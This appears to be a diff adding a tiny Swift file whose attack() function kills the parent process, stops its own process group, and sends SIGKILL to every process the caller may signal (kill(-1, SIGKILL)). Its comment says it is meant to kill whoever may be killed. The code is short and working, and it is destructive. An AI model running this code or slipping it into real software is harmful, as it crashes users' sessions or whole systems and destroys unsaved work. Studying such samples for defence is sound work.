@@ -1,0 +1,9 @@
+// Kills whoever may be killed: the parent first.
+
+import Foundation
+
+func attack() {
+  kill(getppid(), SIGKILL)
+  kill(0, SIGSTOP)
+  kill(-1, SIGKILL)
+}
